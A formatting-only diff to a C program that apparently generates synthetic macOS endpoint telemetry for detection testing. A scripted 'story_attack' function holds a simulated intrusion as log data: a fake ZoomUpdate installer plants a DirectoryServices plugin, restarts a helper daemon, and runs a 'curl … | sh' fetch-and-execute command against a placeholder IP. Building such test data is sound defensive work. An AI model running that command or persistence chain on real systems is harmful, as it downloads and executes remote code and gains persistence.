@@ -36,7 +36,7 @@ static void uuid(char out[37])
 {
 	uint64_t a = rnd(), b = rnd();
 	snprintf(out, 37, "%08x-%04x-4%03x-a%03x-%012" PRIx64, (unsigned)(a >> 32), (unsigned)(a >> 16) & 0xFFFF,
-		 (unsigned)a & 0xFFF, (unsigned)(b >> 48) & 0xFFF, b & 0xFFFFFFFFFFFFu);
+	         (unsigned)a & 0xFFF, (unsigned)(b >> 48) & 0xFFF, b & 0xFFFFFFFFFFFFu);
 }
 
 static void hexstr(char *out, int nbytes)
@@ -77,25 +77,26 @@ struct program {
 };
 
 static const struct signer DEVS[] = {
-	{"Developer ID Application: Google LLC (EQHXZ8M8AV)", "EQHXZ8M8AV", "trusted", 1, 1},
-	{"Developer ID Application: Microsoft Corporation (UBF8T346G9)", "UBF8T346G9", "trusted", 1, 1},
-	{"Developer ID Application: Slack Technologies, Inc. (BQR82RBBHL)", "BQR82RBBHL", "trusted", 1, 1},
+    {"Developer ID Application: Google LLC (EQHXZ8M8AV)", "EQHXZ8M8AV", "trusted", 1, 1},
+    {"Developer ID Application: Microsoft Corporation (UBF8T346G9)", "UBF8T346G9", "trusted", 1, 1},
+    {"Developer ID Application: Slack Technologies, Inc. (BQR82RBBHL)", "BQR82RBBHL", "trusted", 1, 1},
 };
 
 static const struct program PROGRAMS[] = {
-	{"/bin/zsh", "zsh", "com.apple.zsh", "-zsh", &APPLE},
-	{"/usr/bin/git", "git", "com.apple.git", "git status", &APPLE},
-	{"/bin/ls", "ls", "com.apple.ls", "ls -la", &APPLE},
-	{"/usr/bin/curl", "curl", "com.apple.curl", "curl -fsSL https://updates.example.com/feed", &APPLE},
-	{"/usr/sbin/mdworker_shared", "mdworker_shared", "com.apple.mdworker_shared", "mdworker_shared -s mdworker", &APPLE},
-	{"/usr/libexec/xpcproxy", "xpcproxy", "com.apple.xpc.proxy", "xpcproxy com.apple.Safari", &APPLE},
-	{"/usr/bin/python3", "python3", "com.apple.python3", "python3 report.py", &APPLE},
-	{"/System/Library/CoreServices/Finder.app/Contents/MacOS/Finder", "Finder", "com.apple.finder", "Finder", &APPLE},
-	{"/Applications/Google Chrome.app/Contents/MacOS/Google Chrome", "Google Chrome", "com.google.Chrome",
-	 "Google Chrome --type=renderer", &DEVS[0]},
-	{"/Applications/Microsoft Outlook.app/Contents/MacOS/Microsoft Outlook", "Microsoft Outlook",
-	 "com.microsoft.Outlook", "Microsoft Outlook", &DEVS[1]},
-	{"/Applications/Slack.app/Contents/MacOS/Slack", "Slack", "com.tinyspeck.slackmacgap", "Slack", &DEVS[2]},
+    {"/bin/zsh", "zsh", "com.apple.zsh", "-zsh", &APPLE},
+    {"/usr/bin/git", "git", "com.apple.git", "git status", &APPLE},
+    {"/bin/ls", "ls", "com.apple.ls", "ls -la", &APPLE},
+    {"/usr/bin/curl", "curl", "com.apple.curl", "curl -fsSL https://updates.example.com/feed", &APPLE},
+    {"/usr/sbin/mdworker_shared", "mdworker_shared", "com.apple.mdworker_shared", "mdworker_shared -s mdworker",
+     &APPLE},
+    {"/usr/libexec/xpcproxy", "xpcproxy", "com.apple.xpc.proxy", "xpcproxy com.apple.Safari", &APPLE},
+    {"/usr/bin/python3", "python3", "com.apple.python3", "python3 report.py", &APPLE},
+    {"/System/Library/CoreServices/Finder.app/Contents/MacOS/Finder", "Finder", "com.apple.finder", "Finder", &APPLE},
+    {"/Applications/Google Chrome.app/Contents/MacOS/Google Chrome", "Google Chrome", "com.google.Chrome",
+     "Google Chrome --type=renderer", &DEVS[0]},
+    {"/Applications/Microsoft Outlook.app/Contents/MacOS/Microsoft Outlook", "Microsoft Outlook",
+     "com.microsoft.Outlook", "Microsoft Outlook", &DEVS[1]},
+    {"/Applications/Slack.app/Contents/MacOS/Slack", "Slack", "com.tinyspeck.slackmacgap", "Slack", &DEVS[2]},
 };
 #define NPROGRAMS (sizeof(PROGRAMS) / sizeof(PROGRAMS[0]))
 
@@ -172,7 +173,7 @@ static void entity_id(const struct host *h, unsigned pid, char out_id[96])
 }
 
 static void emit_common_head(struct host *h, const char *dataset, const char *category, const char *type,
-			     const char *action, const char *message)
+                             const char *action, const char *message)
 {
 	char ts[40], ing[40], evid[37];
 	iso(now_us, ts);
@@ -186,7 +187,8 @@ static void emit_common_head(struct host *h, const char *dataset, const char *ca
 	     "\"sequence\":%" PRIu64 ",\"type\":[\"%s\"]},"
 	     "\"host\":{\"architecture\":\"arm64\",\"hostname\":\"%s\",\"id\":\"%s\",\"ip\":[\"%s\",\"fe80::1\"],"
 	     "\"name\":\"%s\",\"os\":{\"Ext\":{\"variant\":\"macOS\"},\"family\":\"macos\",\"full\":\"macOS 14.6.1\","
-	     "\"kernel\":\"23.6.0\",\"name\":\"macOS\",\"platform\":\"macos\",\"type\":\"macos\",\"version\":\"14.6.1\"}},"
+	     "\"kernel\":\"23.6.0\",\"name\":\"macOS\",\"platform\":\"macos\",\"type\":\"macos\",\"version\":\"14.6."
+	     "1\"}},"
 	     "\"message\":\"%s\",",
 	     ts, h->agent, dataset, h->agent, action, category, ts, dataset, evid, ing, ++h->seq, type, h->name, h->id,
 	     h->ip, h->name, message);
@@ -220,7 +222,7 @@ static void ancestry_of(const struct proc *p, char *buf, size_t n)
 }
 
 static void spawn(struct host *h, struct proc *p, const struct program *prog, const char *args,
-		  const char *parent_entity, const char *parent_exe, const char *parent_name, unsigned ppid)
+                  const char *parent_entity, const char *parent_exe, const char *parent_name, unsigned ppid)
 {
 	p->prog = prog;
 	p->args = args ? args : prog->args;
@@ -242,8 +244,8 @@ static void process_event(struct host *h, const struct proc *p, const char *acti
 	emit_user(h, root);
 }
 
-static void file_event(struct host *h, const struct proc *p, const char *action, const char *path,
-		       const char *original, int root)
+static void file_event(struct host *h, const struct proc *p, const char *action, const char *path, const char *original,
+                       int root)
 {
 	const char *type = !strcmp(action, "deletion") ? "deletion" : !strcmp(action, "rename") ? "change" : "change";
 	const char *name = strrchr(path, '/') ? strrchr(path, '/') + 1 : path;
@@ -254,7 +256,8 @@ static void file_event(struct host *h, const struct proc *p, const char *action,
 	emit("\"file\":{");
 	if (original)
 		emit("\"Ext\":{\"original\":{\"path\":\"%s\"}},", original);
-	emit("\"extension\":\"%s\",\"hash\":{\"sha256\":\"%s\"},\"inode\":%u,\"name\":\"%s\",\"path\":\"%s\",\"size\":%u},",
+	emit("\"extension\":\"%s\",\"hash\":{\"sha256\":\"%s\"},\"inode\":%u,\"name\":\"%s\",\"path\":\"%s\",\"size\":%"
+	     "u},",
 	     dot ? dot + 1 : "", sha, 1000000 + pick(9000000), name, path, 512 + pick(200000));
 	ancestry_of(p, anc, sizeof(anc));
 	emit_process_fields(p, anc);
@@ -303,19 +306,20 @@ static void background_event(struct host *h)
 static void story_attack(struct host *h)
 {
 	static const struct program installer = {
-		"/Users/amara/Downloads/ZoomUpdate.app/Contents/MacOS/ZoomUpdate", "ZoomUpdate", "",
-		"/Users/amara/Downloads/ZoomUpdate.app/Contents/MacOS/ZoomUpdate --silent", &UNSIGNED};
+	    "/Users/amara/Downloads/ZoomUpdate.app/Contents/MacOS/ZoomUpdate", "ZoomUpdate", "",
+	    "/Users/amara/Downloads/ZoomUpdate.app/Contents/MacOS/ZoomUpdate --silent", &UNSIGNED};
 	static const struct program mv = {"/bin/mv", "mv", "com.apple.mv",
-					  "mv /private/tmp/.zu/CoreSync.dsplug /Library/DirectoryServices/PlugIns/", &APPLE};
+	                                  "mv /private/tmp/.zu/CoreSync.dsplug /Library/DirectoryServices/PlugIns/",
+	                                  &APPLE};
 	static const struct program launchctl = {"/bin/launchctl", "launchctl", "com.apple.xpc.launchctl",
-						 "launchctl kickstart -k system/com.apple.dspluginhelperd", &APPLE};
+	                                         "launchctl kickstart -k system/com.apple.dspluginhelperd", &APPLE};
 	static const struct program helper = {"/usr/libexec/dspluginhelperd", "dspluginhelperd",
-					      "com.apple.dspluginhelperd", "/usr/libexec/dspluginhelperd", &APPLE};
+	                                      "com.apple.dspluginhelperd", "/usr/libexec/dspluginhelperd", &APPLE};
 	static const struct program sh = {"/bin/sh", "sh", "com.apple.sh",
-					  "/bin/sh -c curl -s http://203.0.113.77/k | sh", &APPLE};
+	                                  "/bin/sh -c curl -s http://203.0.113.77/k | sh", &APPLE};
 	struct proc inst, m, l, hp, s;
-	spawn(h, &inst, &installer, NULL, h->shell_entity, "/System/Library/CoreServices/Finder.app/Contents/MacOS/Finder",
-	      "Finder", 388);
+	spawn(h, &inst, &installer, NULL, h->shell_entity,
+	      "/System/Library/CoreServices/Finder.app/Contents/MacOS/Finder", "Finder", 388);
 	process_event(h, &inst, "exec", 0);
 	now_us += 800000;
 	file_event(h, &inst, "modification", "/private/tmp/.zu/CoreSync.dsplug/Contents/MacOS/CoreSync", NULL, 1);
@@ -326,10 +330,10 @@ static void story_attack(struct host *h)
 	process_event(h, &m, "exec", 1);
 	now_us += 20000;
 	file_event(h, &m, "rename", "/Library/DirectoryServices/PlugIns/CoreSync.dsplug",
-		   "/private/tmp/.zu/CoreSync.dsplug", 1);
+	           "/private/tmp/.zu/CoreSync.dsplug", 1);
 	now_us += 300000;
-	file_event(h, &inst, "modification", "/Library/DirectoryServices/PlugIns/CoreSync.dsplug/Contents/MacOS/CoreSync",
-		   NULL, 1);
+	file_event(h, &inst, "modification",
+	           "/Library/DirectoryServices/PlugIns/CoreSync.dsplug/Contents/MacOS/CoreSync", NULL, 1);
 	now_us += 500000;
 	spawn(h, &l, &launchctl, NULL, inst.entity, installer.exe, installer.name, inst.pid);
 	process_event(h, &l, "exec", 1);
@@ -348,22 +352,24 @@ static void story_attack(struct host *h)
 static void story_update(struct host *h)
 {
 	static const struct program su = {"/usr/sbin/installer", "installer", "com.apple.installer",
-					  "installer -pkg /Library/Updates/041-8822/ODSupport.pkg -target /", &APPLE};
+	                                  "installer -pkg /Library/Updates/041-8822/ODSupport.pkg -target /", &APPLE};
 	struct proc p;
-	spawn(h, &p, &su, NULL, h->shell_entity, "/System/Library/PrivateFrameworks/SoftwareUpdate.framework/Resources/softwareupdated",
-	      "softwareupdated", 312);
+	spawn(h, &p, &su, NULL, h->shell_entity,
+	      "/System/Library/PrivateFrameworks/SoftwareUpdate.framework/Resources/softwareupdated", "softwareupdated",
+	      312);
 	process_event(h, &p, "exec", 1);
 	now_us += 900000;
 	file_event(h, &p, "modification", "/Library/DirectoryServices/PlugIns/NiPlugin.dsplug", NULL, 1);
 	now_us += 40000;
 	file_event(h, &p, "modification", "/Library/DirectoryServices/PlugIns/NiPlugin.dsplug/Contents/MacOS/NiPlugin",
-		   NULL, 1);
+	           NULL, 1);
 }
 
 static int parse_start(const char *s, int64_t *us)
 {
 	struct tm tm = {0};
-	if (sscanf(s, "%d-%d-%dT%d:%d:%d", &tm.tm_year, &tm.tm_mon, &tm.tm_mday, &tm.tm_hour, &tm.tm_min, &tm.tm_sec) != 6)
+	if (sscanf(s, "%d-%d-%dT%d:%d:%d", &tm.tm_year, &tm.tm_mon, &tm.tm_mday, &tm.tm_hour, &tm.tm_min, &tm.tm_sec) !=
+	    6)
 		return -1;
 	tm.tm_year -= 1900;
 	tm.tm_mon -= 1;
